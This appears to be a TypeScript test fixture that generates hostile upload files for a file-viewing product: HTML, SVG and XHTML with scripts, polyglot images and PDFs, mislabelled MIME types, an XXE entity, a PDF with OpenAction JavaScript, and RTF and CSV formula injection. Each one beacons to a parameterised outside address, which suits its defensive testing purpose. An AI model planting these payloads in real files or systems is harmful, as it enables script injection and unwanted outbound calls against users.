import { packZip } from '@skyshelf/testing';
import { pdfOf } from '../pdf-of.js';
import { sampleImage } from '../sample-image.js';

export interface HostileFile {
  name: string;
  type: string;
  bytes: Buffer;
}

/** Says that it ran to anyone who listens in the page, and calls an address elsewhere. */
export const script = (by: string, elsewhere: string): string =>
  `window.hostile?.('${by}');fetch('${elsewhere}/fetch/${by}').catch(()=>{});new Image().src='${elsewhere}/image/${by}'`;

/** Files that want to run a script or to call elsewhere where they are opened, each under another type. */
export async function hostileFiles(elsewhere: string): Promise<HostileFile[]> {
  const html = (by: string): string =>
    `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=${elsewhere}/refresh/${by}"><link rel="stylesheet" href="${elsewhere}/style/${by}"></head><body onload="${script(by, elsewhere)}"><script>${script(by, elsewhere)}</script><img src="${elsewhere}/picture/${by}"><iframe src="${elsewhere}/frame/${by}"></iframe></body></html>`;
  const svg = (by: string): string =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="60" onload="${script(by, elsewhere)}"><style>@import url(${elsewhere}/import/${by});</style><script>${script(by, elsewhere)}</script><rect width="90" height="60" fill="teal"/><image href="${elsewhere}/href/${by}" xlink:href="${elsewhere}/xlink/${by}" width="9" height="9"/><foreignObject width="90" height="60"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${elsewhere}/foreign/${by}"/></body></foreignObject></svg>`;
  const xhtml = (by: string): string =>
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${elsewhere}/sheet/${by}"?><!DOCTYPE html [<!ENTITY x SYSTEM "${elsewhere}/entity/${by}">]><html xmlns="http://www.w3.org/1999/xhtml"><body><script>${script(by, elsewhere)}</script>&x;</body></html>`;
  const png = await sampleImage(90, 60);
  const jpeg = await sampleImage(90, 60, 'jpeg');
  const text = (name: string, type: string, content: string): HostileFile => ({
    name,
    type,
    bytes: Buffer.from(content),
  });
  return [
    text('drawing.svg', 'image/svg+xml', svg('drawing')),
    text('page.html', 'text/html', html('page')),
    text('page.xhtml', 'application/xhtml+xml', xhtml('xhtml')),
    text('feed.xml', 'text/xml', xhtml('xml')),
    text('mail.mht', 'multipart/related', `MIME-Version: 1.0\nContent-Type: text/html\n\n${html('mail')}`),
    { name: 'paper.pdf', type: 'application/pdf', bytes: scriptedPdf(elsewhere) },
    // One file, two types.
    { name: 'tail.png', type: 'image/png', bytes: Buffer.concat([png, Buffer.from(html('tail'))]) },
    { name: 'tail.jpg', type: 'image/jpeg', bytes: Buffer.concat([jpeg, Buffer.from(html('jpeg'))]) },
    text('code.gif', 'image/gif', `GIF89a/*\u0001\u0000*/=1;${script('gif', elsewhere)}//`),
    { name: 'paged.pdf', type: 'application/pdf', bytes: Buffer.from(`%PDF-1.4\n${html('paged')}`) },
    // Another type than they say.
    text('html.png', 'image/png', html('png')),
    text('svg.jpg', 'image/jpeg', svg('jpg')),
    text('html.mp4', 'video/mp4', html('mp4')),
    text('html.mp3', 'audio/mpeg', html('mp3')),
    text('html.csv', 'text/csv', html('csv')),
    text('html.xls', 'application/vnd.ms-excel', html('xls')),
    text('nameless', 'application/octet-stream', html('nameless')),
    { name: 'wide.html', type: 'text/html', bytes: Buffer.from(`\ufeff${html('wide')}`, 'utf16le') },
    text('worker.mjs', 'text/javascript', `self.hostile?.('module');${script('module', elsewhere)}`),
    text('typed.html', 'text/html; charset=utf-7', html('charset')),
    // What converters could follow.
    text('list.avi', 'video/x-msvideo', `#EXTM3U\n#EXTINF:1,\n${elsewhere}/segment.ts\n#EXT-X-ENDLIST\n`),
    text(
      'calls.rtf',
      'application/rtf',
      `{\\rtf1 A{\\field{\\*\\fldinst INCLUDEPICTURE "${elsewhere}/rtf"}}}`,
    ),
    text('calls.csv', 'text/csv', `a,"=WEBSERVICE(""${elsewhere}/csv"")"\n`),
    { name: 'page.docx', type: 'application/msword', bytes: packZip({ 'index.html': html('docx') }) },
  ];
}

/** One page that runs scripts and calls elsewhere when it is opened, where the reader lets it. */
function scriptedPdf(elsewhere: string): Buffer {
  const javascript = `app.alert('hostile'); this.getURL('${elsewhere}/pdf-script'); app.launchURL('${elsewhere}/pdf-launch', true);`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${escaped(javascript)}) >> /AcroForm << /Fields [5 0 R] >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); window.hostile\\('font'\\)//)] >> >> >> /Annots [5 0 R] /AA << /O << /S /URI /URI (${elsewhere}/pdf-open) >> >> >>`,
    '<< /Length 37 >>\nstream\nBT /F 20 Tf 10 50 Td (Skyshelf) Tj ET\nendstream',
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [0 0 9 9] /AA << /PV << /S /SubmitForm /F (${elsewhere}/pdf-form) >> >> >>`,
  ];
  return pdfOf(objects);
}

const escaped = (text: string): string => text.replace(/[()\\]/g, '\\$&');
